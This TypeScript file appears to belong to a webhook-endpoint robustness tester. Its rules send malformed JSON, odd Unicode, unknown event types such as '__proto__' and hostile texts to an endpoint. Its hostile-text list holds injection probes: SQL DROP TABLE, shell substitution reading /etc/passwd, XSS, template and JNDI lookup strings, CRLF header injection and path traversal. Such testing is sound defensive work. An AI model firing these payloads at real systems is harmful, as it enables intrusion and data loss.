import { proofKindOf } from '../endpoints.ts';
import type { EndpointUnderTest, Finding, Rule, Trial } from '../rule.ts';
import type { Stage } from '../stage.ts';
import { passed, tried, worse } from '../trials.ts';
import { judgeAnswer, where } from '../making/answers.ts';
import {
  doubtful,
  isWritten,
  KEPT_OR_NOT,
  membersOf,
  misfit,
  ownContent,
  typeMemberOf,
  withMembers,
  type OwnContent,
} from '../making/own-content.ts';

const KEEP = 'Keep what was proven and does not fit for a human, and answer 2xx.';

/** Group E and F: what stands in genuine content, odd characters first. */
export const contentRules: readonly Rule[] = [
  {
    id: 'E6-odd-characters',
    group: 'E',
    title: 'survives odd characters in genuine content',
    severity: 'high',
    grade: 'correct',
    level: 1,
    why: 'Names of people and documents hold whatever can be typed. Some databases refuse NUL, some functions throw at half a surrogate pair, and the event is lost.',
    fix: `Store content as bytes, and clean texts where they are used. ${KEEP}`,
    trials: (at) => (isWritten(at) ? odd(at) : []),
  },
  {
    id: 'F7-shape',
    group: 'F',
    title: 'survives genuine content of another shape',
    severity: 'high',
    grade: 'correct',
    level: 1,
    why: 'Senders change: a member is missing, null or a list one day. Code that expects text throws, and the sender hears 500 for all its events.',
    fix: `Check content with a schema after it was stored. ${KEEP}`,
    trials: where(isWritten, shapes),
  },
  {
    id: 'F8-event-type',
    group: 'F',
    title: 'survives event types that it does not know',
    severity: 'high',
    grade: 'correct',
    level: 1,
    why: 'A new version of the sender brings new events. Looked up in an object, names such as constructor are found and called.',
    fix: `Look event types up in a map of those you handle. ${KEEP}`,
    trials: (at) => (isWritten(at) && typeMemberOf(at) !== undefined ? types(at) : []),
  },
  {
    id: 'F10-hostile-text',
    group: 'F',
    title: 'accepts genuine content whatever its texts say',
    severity: 'medium',
    grade: 'correct',
    level: 1,
    why: 'A document may well be called Robert; DROP TABLE. A filter that refuses it loses genuine events, and code that does not escape it runs it.',
    fix: 'Store texts as they are, use parameters in queries, escape where texts are shown. Take content filters off these paths.',
    trials: where(isWritten, hostile),
  },
];

const texts: readonly (readonly [name: string, written: string | Buffer])[] = [
  ['an escaped NUL', '\\u0000'],
  ['escaped controls', '\\u0001\\u001b\\u007f'],
  ['C1 controls', '\u0085\u009f'],
  ['a right-to-left override', '\u202egnp.exe'],
  ['a character beyond the first plane', '\u{1f4dc}'],
  ['the same as two escapes', '\\ud83d\\udcdc'],
  ['half a surrogate pair', '\\ud800'],
  ['the other half', '\\udc00'],
  ['two halves in the wrong order', '\\udc00\\ud800'],
  ['a composed and a decomposed letter', '\u00c5A\u030a'],
  ['line separators', '\u2028\u2029'],
  ['a byte order mark inside', '\ufeff'],
  ['non-characters', '\uffff\ufdd0'],
  ['many combining marks', `a${'\u0301'.repeat(200)}`],
];

const noTexts: readonly (readonly [name: string, written: Buffer])[] = [
  ['a raw NUL', Buffer.from([0])],
  ['a raw line end', Buffer.from('\n')],
  ['an overlong slash', Buffer.from([0xc0, 0xaf])],
  ['a surrogate in UTF-8', Buffer.from([0xed, 0xa0, 0x80])],
  ['a fifth byte', Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80])],
  ['Latin-1', Buffer.from([0xc5])],
  ['UTF-16', Buffer.from('A', 'utf16le')],
];

function odd(at: EndpointUnderTest): Trial[] {
  const written = (name: string, text: string | Buffer, statuses = KEPT_OR_NOT) =>
    misfit(
      name,
      ({ json }) => {
        const [before = '', behind = ''] = withMembers(json, ',"x":"<here>"').split('<here>');
        return Buffer.concat([Buffer.from(before), Buffer.from(text), Buffer.from(behind)]);
      },
      statuses,
    );
  return [
    ...texts.map(([name, text]) => written(name, text)),
    ...noTexts.map(([name, text]) => written(name, text, doubtful(at))),
  ];
}

/** In the place of each member in turn; `undefined` leaves it out. */
const others: readonly (readonly [name: string, value: unknown])[] = [
  ['nothing', undefined],
  ['null', null],
  ['a list', ['a', 1, null]],
  ['an object', { a: { b: 1 } }],
  ['a number', 7],
  ['true', true],
  ['an empty text', ''],
  ['a path', '../../etc/passwd'],
  ['a text of 3,000 letters', 'i'.repeat(3_000)],
];

function shapes(): Trial[] {
  return [
    ...others.map(([name, value]) =>
      tried(`${name} in the place of each member`, (stage) => eachReplaced(stage, value)),
    ),
    misfit('an empty object', () => '{}'),
    misfit('members that nobody has heard of', ({ json }) =>
      withMembers(json, ',"invented":{"a":[null,true]}'),
    ),
  ];
}

async function eachReplaced(stage: Stage, value: unknown): Promise<Finding> {
  let finding = passed('2xx or 400 or 422 each time', 'so it was each time');
  for (const name of Object.keys(membersOf(ownContent(stage).json))) {
    const members = { ...membersOf(ownContent(stage).json), [name]: value };
    const observation = await stage.send(await stage.proven(JSON.stringify(members)), `with another ${name}`);
    const grade = judgeAnswer(observation, { passes: passesFor(stage.endpoint) });
    finding = worse(finding, { ...grade, observed: `${name}: ${grade.observed}` });
  }
  return finding;
}

/** A receiver with access tokens may tell its tenants by a member. */
function passesFor(at: EndpointUnderTest) {
  return proofKindOf(at) === 'access token' ? [...KEPT_OR_NOT, 401, 429] : KEPT_OR_NOT;
}

const unknownTypes: readonly (readonly [name: string, written: string])[] = [
  ['unknown', '"SomethingForgotten"'],
  ['with a blank behind', '"OrderSigned "'],
  ['a path', '"../OrderSigned"'],
  ['constructor', '"constructor"'],
  ['__proto__', '"__proto__"'],
  ['toString', '"toString"'],
  ['hasOwnProperty', '"hasOwnProperty"'],
  ['empty', '""'],
  ['null', 'null'],
  ['a number', '1'],
  ['a list', '["OrderSigned"]'],
  ['an object', '{"toString":"OrderSigned"}'],
  ['with a line end', '"Order\\nSigned"'],
  ['with NUL', '"Order\\u0000Signed"'],
  ['of 3,000 letters', `"${'O'.repeat(3_000)}"`],
];

function types(at: EndpointUnderTest): Trial[] {
  const name = typeMemberOf(at) ?? '';
  const typed = (written: string) => (content: OwnContent) =>
    content.json.replace(new RegExp(`"${name}":\\s*"[^"]*"`), () => `"${name}":${written}`);
  return [
    ...unknownTypes.map(([what, written]) => misfit(what, typed(written))),
    misfit('in capitals', typed(JSON.stringify(at.type.toUpperCase()))),
    misfit('in small letters', typed(JSON.stringify(at.type.toLowerCase()))),
    misfit('missing', ({ json }) => JSON.stringify({ ...membersOf(json), [name]: undefined })),
  ];
}

function hostile(): Trial[] {
  const hostiles: readonly (readonly [name: string, text: string])[] = [
    ['SQL', "'; DROP TABLE events; --"],
    ['an operator of a database', '{"$gt":""}'],
    ['a shell command', '$(id) `id` | cat /etc/passwd'],
    ['templates', '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}'],
    ['a formula', '=HYPERLINK("http://example.invalid";"x")'],
    ['HTML', '"><script>alert(1)</script><img src=x onerror=alert(1)>'],
    ['a lookup', '${jndi:ldap://example.invalid/a}'],
    ['header lines', '%0d%0aSet-Cookie: a=b\r\nSet-Cookie: a=b'],
    ['escape sequences of a terminal', '\u001b[2J\u001b]0;x\u0007'],
    ['format directives', '%s%n%x %@ {0} {}'],
  ];
  return hostiles.map(([name, text]) => misfit(name, ({ json }) => retold(json, text)));
}

/** Every text but ids, dates and names of types followed by another one. */
function retold(json: string, text: string): string {
  const isProse = (value: unknown): value is string => typeof value === 'string' && /[\s.@]/.test(value);
  const changed: unknown = JSON.parse(json, (_name, value: unknown) =>
    isProse(value) && !/^\d{4}-\d\d/.test(value) ? `${value} ${text}` : value,
  );
  return withMembers(JSON.stringify(changed), `,"note":${JSON.stringify(text)}`);
}
